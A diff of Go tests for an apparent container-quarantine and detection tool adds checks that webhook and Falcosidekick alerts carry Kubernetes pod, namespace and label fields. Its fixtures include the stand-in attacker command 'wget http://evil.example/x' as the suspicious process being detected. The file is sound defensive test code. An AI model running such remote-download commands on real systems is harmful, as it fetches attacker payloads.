@@ -61,6 +61,8 @@ func TestWebhookOutput(t *testing.T) {
 		t.Errorf("quarantine lacks the process: %+v", q.Process)
 	case q.Snapshot == nil || q.Snapshot.Processes != 2 || q.Snapshot.Sockets != 1 || q.Snapshot.ChangedFiles != 1 || !strings.Contains(q.Snapshot.Top[0], "wget http://evil.example/x"):
 		t.Errorf("quarantine snapshot summary: %+v", q.Snapshot)
+	case q.Container.Pod != "web-7d4b9c8f6d-x2x9q" || q.Container.Namespace != "shop" || q.Container.Labels["app"] != "web":
+		t.Errorf("quarantine lacks the pod: %+v", q.Container)
 	case q.ReleaseCommand != "contain release "+testContainer+" --reason 'REASON'":
 		t.Errorf("release command: %q", q.ReleaseCommand)
 	case q.Action == nil || q.Action.Actor != "responder@"+testHost || q.Action.LatencyMs != 7:
@@ -142,6 +144,8 @@ func TestFalcosidekickOutput(t *testing.T) {
 		t.Errorf("falco event: %+v", e)
 	case !strings.Contains(e.Output, "exec.unseen") || e.Time.IsZero():
 		t.Errorf("output %q time %v", e.Output, e.Time)
+	case f["k8s.pod.name"] != "web-7d4b9c8f6d-x2x9q" || f["k8s.ns.name"] != "shop" || f["container.label[app]"] != "web":
+		t.Errorf("kubernetes output_fields: %v", f)
 	case f["container.id"] != testContainer || f["proc.name"] != "wget" || f["proc.cmdline"] != "wget http://evil.example/x" || f["contain.score"] != 0.95:
 		t.Errorf("output_fields: %v", f)
 	case strings.Join(e.Tags, ",") != "contain,alert,T1059,T1105":
